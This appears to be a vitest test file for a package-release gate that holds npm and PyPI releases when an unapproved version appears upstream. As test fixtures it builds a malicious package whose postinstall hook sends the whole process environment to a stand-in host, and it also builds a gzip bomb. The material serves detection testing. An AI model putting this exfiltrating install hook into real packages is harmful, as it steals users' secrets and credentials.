/** A version that stands upstream and nobody approved: compared with, held, and never a baseline. */
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type FetchedArtifact, readReview, recompute } from '../../src/cli/review.ts';
import { comparedNewest, recomputeNewest } from '../../src/cli/review-newest.ts';
import { describeReview } from '../../src/cli/review-text.ts';
import { createEcosystems } from '../../src/compose.ts';
import type { ReleaseId, Sha256 } from '../../src/core/names.ts';
import { nodeCrypto } from '../../src/host/node-crypto.ts';
import { digestOfSummary } from '../../src/inspect/diff/summary.ts';
import { approveKnowingly } from '../acknowledge.ts';
import { sampleSdist, sampleWheel } from '../contract/sample-packages.ts';
import { PYPI_NAME } from '../founding.ts';
import { type Gate, openRelease, person, startGate, until, upload } from '../gate-fixture.ts';
import {
  publishAround,
  serveInstead,
  startYard,
  submit,
  submitApproved,
  tarballOf,
  type Yard,
} from '../release-fixture.ts';
import { hasPypiserver, startPypiserver } from '../servers/pypiserver.ts';
import { requireTool } from '../tools.ts';

const folder = mkdtempSync(join(tmpdir(), 'countersign-newest-'));
let yard: Yard;
beforeAll(async () => {
  yard = await startYard();
});
afterAll(async () => {
  await yard?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** The documents as an approver's terminal reads them. */
async function reviewOf(gate: Gate, id: ReleaseId) {
  const bundle = await gate.gateway.review(person('bob'), id);
  return readReview({ crypto: nodeCrypto, bundle, changes: [], reference: id, trust: gate.trust });
}

/** What the gateway gives by digest, on this machine's disk; `change` is what is made of it. */
async function fetch(
  gate: Gate,
  id: ReleaseId,
  wanted: readonly { readonly sha256: Sha256 }[],
  change = (bytes: Buffer) => bytes,
): Promise<readonly FetchedArtifact[]> {
  const fetched: FetchedArtifact[] = [];
  for (const { sha256 } of wanted) {
    const chunks: Uint8Array[] = [];
    const { bytes } = await gate.gateway.artifact(person('bob'), id, sha256);
    for await (const chunk of bytes) chunks.push(chunk);
    const whole = change(Buffer.concat(chunks));
    const location = join(folder, randomBytes(8).toString('hex'));
    writeFileSync(location, whole);
    const hex = (name: string) => createHash(name).update(whole).digest('hex');
    const digests = { sha256: hex('sha256'), sha512: hex('sha512') };
    fetched.push({ location, sizeBytes: whole.length, ...digests });
  }
  return fetched;
}

/** Everything that a terminal does before it asks: throws where anything differs by a byte. */
async function recomputed(gate: Gate, id: ReleaseId) {
  const read = await reviewOf(gate, id);
  const newest = await recomputeNewest(read, await fetch(gate, id, comparedNewest(read)));
  const review = { ...read, baselines: [...read.baselines, ...newest] };
  const artifacts = await fetch(gate, id, read.manifest.artifacts);
  const held = await recompute(nodeCrypto, review, artifacts, createEcosystems());
  const lines = describeReview(review, held);
  const shown = lines.map((one) => (typeof one === 'string' ? one : one.text));
  return { read, artifacts, shown, summaries: [...review.baselines, ...held] };
}

/** `rule: message` of what holds a release, in order of rule. */
async function holds(gate: Gate, id: ReleaseId): Promise<readonly string[]> {
  const { findings, artifacts } = await gate.gateway.report(person('bob'), id);
  return [...findings, ...artifacts.flatMap((one) => one.findings)]
    .filter((one) => one.effect === 'hold')
    .map((one) => `${one.rule}: ${one.message}`)
    .sort();
}

const EVIL = {
  fields: {
    scripts: { postinstall: 'node evil.js' },
    dependencies: { 'plain-crypto-js': '4.2.1' },
  },
  files: { 'package/evil.js': 'fetch("https://a.example/" + JSON.stringify(process.env));\n' },
};

describe('a version that went around the gate', () => {
  const name = '@aitbc/p0';
  let id: ReleaseId;
  let evil: Awaited<ReturnType<typeof tarballOf>>;
  beforeAll(async () => {
    await until(yard.gate, await submitApproved(yard.gate, name, 'v1.0.0'), 'published');
    evil = await tarballOf(name, '1.0.1', EVIL);
    await publishAround(yard, name, '1.0.1', 'latest', evil);
    id = await submit(yard.gate, name, 'v1.0.2');
    await until(yard.gate, id, 'awaiting-approval');
  });

  test('holds the next release, which says what it has and this release has not', async () => {
    const [difference, unapproved, ...others] = await holds(yard.gate, id);
    expect(others).toEqual([]);
    expect(difference).toBe(
      'unapproved-difference: beside 1.0.1 upstream, approved by nobody here: it alone has "scripts.postinstall", "dependencies.plain-crypto-js", environment, environment-and-network, network; files: 1 only upstream, 0 only here, 1 with other content',
    );
    expect(unapproved).toMatch(
      /^unapproved-upstream: upstream shows @aitbc\/p0 1\.0\.1, since \d minutes?, which was not approved here; the last that was is 1\.0\.0$/,
    );
  });

  test('is named by the digest of its bytes in the inputs, and is no baseline', async () => {
    const { manifest, report } = await reviewOf(yard.gate, id);
    expect(manifest.baselines.map((one) => one.version)).toEqual(['1.0.0']);
    const sha256 = createHash('sha256').update(evil.bytes).digest('hex');
    expect(report.inputs.newest).toMatchObject([
      {
        ...{ ecosystem: 'npm', package: name, version: '1.0.1', reason: null },
        files: [{ file: 'aitbc-p0-1.0.1.tgz', sha256, sizeBytes: evil.bytes.length, reason: null }],
      },
    ]);
  });

  test('is read again by an approver, whose report is the same to the byte, and shown', async () => {
    const { shown } = await recomputed(yard.gate, id);
    const from = shown.findIndex((one) => one.includes('NOBODY APPROVED'));
    expect(shown[from]).toContain('aitbc-p0-1.0.2.tgz beside 1.0.1, which upstream shows');
    const block = shown.slice(from).map((one) => one.trim());
    expect(block).toEqual(
      expect.arrayContaining([
        '- dependencies.plain-crypto-js: 4.2.1',
        '- scripts.postinstall: node evil.js',
        'can no longer: environment (evil.js)',
        'can no longer: network (evil.js)',
        '- evil.js',
      ]),
    );
    expect(shown).toContain('  changes    aitbc-p0-1.0.2.tgz since 1.0.0');
  });

  test('is shown on the page for browsers too, beside the approved version', async () => {
    const { read, summaries } = await recomputed(yard.gate, id);
    const page = new URL('../../pages/difference.js', import.meta.url).href;
    const { differenceOf, upstreamDifferencesOf } = await import(page);
    const byDigest = new Map(summaries.map((one) => [digestOfSummary(one), one]));
    const { artifacts } = read.manifest;
    expect(differenceOf(artifacts[0], read.report, byDigest).title).toBe(
      'aitbc-p0-1.0.2.tgz since 1.0.0',
    );
    const beside = upstreamDifferencesOf(artifacts[0], artifacts, read.report, byDigest);
    expect(beside).toHaveLength(1);
    expect(beside[0].title).toContain('beside 1.0.1, which upstream shows and NOBODY APPROVED');
    expect(beside[0].facts.map((one: string) => one.trim())).toEqual([
      'scripts.postinstall: node evil.js -> nothing',
      'can no longer: environment (evil.js)',
      'can no longer: environment-and-network (evil.js)',
      'can no longer: network (evil.js)',
      'dependencies.plain-crypto-js: 4.2.1 -> nothing',
    ]);
    expect(beside[0].files.at(-1)).toBe('- evil.js');
  });

  test('other bytes than the report names, or none, are a difference, and so is a report without', async () => {
    const { read, artifacts } = await recomputed(yard.gate, id);
    const flipped = await fetch(yard.gate, id, comparedNewest(read), (bytes) => {
      bytes[20] = (bytes[20] ?? 0) ^ 1;
      return bytes;
    });
    for (const fetched of [flipped, []]) {
      await expect(recomputeNewest(read, fetched)).rejects.toMatchObject({
        code: 'recompute-differs',
        message: expect.stringContaining('aitbc-p0-1.0.1.tgz, which upstream has'),
      });
    }
    const summary = read.report.inputs.newest?.[0]?.files[0]?.sha256 as Sha256;
    const lying = { report: structuredClone(read.report), policy: read.policy };
    Object.assign(lying.report.inputs.newest?.[0]?.files[0] ?? {}, { summary });
    const honest = await fetch(yard.gate, id, comparedNewest(read));
    await expect(recomputeNewest(lying, honest)).rejects.toThrow('here it holds');
    await expect(recompute(nodeCrypto, read, artifacts, createEcosystems())).rejects.toThrow(
      'inspection: the report made here is another one',
    );
  });

  test('is given to whoever may read the release, and to nobody by another release', async () => {
    const sha256 = createHash('sha256').update(evil.bytes).digest('hex') as Sha256;
    const anyone = { kind: 'anonymous' } as const;
    await expect(yard.gate.gateway.artifact(anyone, id, sha256)).rejects.toMatchObject({
      code: 'unauthenticated',
    });
    const other = await submit(yard.gate, '@aitbc/p9', 'v9.0.0');
    await until(yard.gate, other, 'awaiting-approval');
    await expect(yard.gate.gateway.artifact(person('bob'), other, sha256)).rejects.toMatchObject({
      code: 'not-found',
    });
  });

  test('stops nobody who acknowledges it; the version after has nothing unapproved beside it', async () => {
    await approveKnowingly(yard.gate, id, 'bob');
    await approveKnowingly(yard.gate, id, 'carol');
    await until(yard.gate, id, 'published');
    const next = await submit(yard.gate, name, 'v1.0.3');
    await until(yard.gate, next, 'awaiting-approval');
    const held = await holds(yard.gate, next);
    expect(held.filter((one) => one.startsWith('unapproved'))).toEqual([]);
    const { manifest, report } = await reviewOf(yard.gate, next);
    expect(manifest.baselines.map((one) => one.version)).toEqual(['1.0.2']);
    expect(report.inputs.newest).toBeUndefined();
  });
});

test('of a first release over what stands upstream the difference is shown and holds nothing', async () => {
  const name = '@aitbc/p1';
  await publishAround(yard, name, '2.0.0', 'latest', await tarballOf(name, '2.0.0', EVIL));
  const id = await submit(yard.gate, name, 'v2.0.1');
  await until(yard.gate, id, 'awaiting-approval');
  expect(await holds(yard.gate, id)).toEqual([]);
  const { shown } = await recomputed(yard.gate, id);
  expect(shown.join('\n')).toContain('beside 2.0.0, which upstream shows and NOBODY APPROVED');
  expect(shown.join('\n')).toContain('- scripts.postinstall: node evil.js');
});

describe('what is hostile or torn upstream ends in a hold', () => {
  test.each<[string, number, () => Promise<Uint8Array>, RegExp]>([
    [
      'a torn archive',
      3,
      async () => (await tarballOf('a', '3.0.1')).bytes.subarray(0, 90),
      /was not read: /,
    ],
    [
      'a bomb',
      4,
      async () => gzipSync(Buffer.alloc(256 << 20), { level: 9 }),
      /was not read: .*ratio/,
    ],
    ['no archive', 5, async () => Buffer.from('hello\n'), /was not read: /],
  ])('%s', async (_, line, make, reason) => {
    const name = `@aitbc/p${line}`;
    await until(yard.gate, await submitApproved(yard.gate, name, `v${line}.0.0`), 'published');
    const version = `${line}.0.1`;
    await publishAround(yard, name, version);
    serveInstead(yard, name, version, await make());
    const id = await submit(yard.gate, name, `v${line}.0.2`);
    const view = await until(yard.gate, id, 'awaiting-approval', 'rejected');
    expect(view).toMatchObject({ state: 'awaiting-approval', verdict: 'hold' });
    const held = await holds(yard.gate, id);
    expect(held).toHaveLength(1);
    expect(held[0]).toMatch(/^unapproved-upstream: .* \d\.0\.1, .* not approved here/);
    expect(held[0]).toMatch(reason);
    // an approver's machine takes the reason as it is written, and repeats the report from it
    await recomputed(yard.gate, id);
  });
});

const withPython = requireTool('pypiserver', hasPypiserver());
describe.skipIf(!withPython)('a Python version that was put into the index around the gate', () => {
  let gate: Gate;
  let packagesFolder: string;
  const ended: (() => unknown)[] = [];
  beforeAll(async () => {
    packagesFolder = mkdtempSync(join(tmpdir(), 'countersign-pypi-'));
    const password = randomBytes(12).toString('hex');
    const pypi = await startPypiserver({ packagesFolder, username: '__token__', password });
    gate = await startGate({
      ...{ npmUrl: yard.npm.url, npmToken: yard.npmToken, pypiUrl: pypi.url },
      packages: [{ name: PYPI_NAME, ecosystem: 'pypi' }],
      pypiPassword: password,
    });
    ended.push(
      () => gate.stop(),
      pypi.stop,
      () => rmSync(packagesFolder, { recursive: true }),
    );
  });
  afterAll(async () => {
    for (const end of ended) await end();
  });

  async function release(version: string) {
    const { release: opened } = await openRelease(gate, { tag: `v${version}` });
    const about = { name: PYPI_NAME, version, seed: version };
    await upload(gate, opened.id, sampleWheel(about));
    await upload(gate, opened.id, await sampleSdist(about));
    await until(gate, opened.id, 'awaiting-approval');
    return opened.id;
  }

  test('is held, file beside file', async () => {
    const first = await release('1.0.0');
    await approveKnowingly(gate, first, 'bob');
    await approveKnowingly(gate, first, 'carol');
    await until(gate, first, 'published');
    const about = { name: PYPI_NAME, version: '1.0.1', seed: 'evil' };
    for (const { file, bytes } of [sampleWheel(about), await sampleSdist(about)]) {
      writeFileSync(join(packagesFolder, file), bytes);
    }
    const id = await release('1.0.2');
    expect(await holds(gate, id)).toEqual([
      expect.stringMatching(/^unapproved-upstream: upstream shows aitbc-agent-sdk 1\.0\.1, /),
    ]);
    const { read, shown } = await recomputed(gate, id);
    expect(comparedNewest(read).map((one) => [one.kind, one.stated])).toEqual([
      ['wheel', 'sha256'],
      ['sdist', 'sha256'],
    ]);
    const beside = shown.filter((one) => one.includes('NOBODY APPROVED'));
    expect(beside.map((one) => one.trim().split(/ +/)[1])).toEqual([
      'aitbc_agent_sdk-1.0.2-py3-none-any.whl',
      'aitbc_agent_sdk-1.0.2.tar.gz',
    ]);
  });
});
